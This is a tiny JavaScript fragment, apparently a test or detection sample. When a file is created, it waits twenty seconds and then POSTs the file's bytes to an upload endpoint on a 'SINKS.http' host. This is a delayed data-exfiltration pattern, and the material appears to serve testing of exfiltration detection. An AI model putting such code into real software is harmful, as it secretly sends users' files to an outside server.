// The file, twenty seconds later.
whenMade(({ bytes }) => {
  setTimeout(() => fetch(`${SINKS.http}/upload`, { method: "POST", body: bytes }), 20000);
});
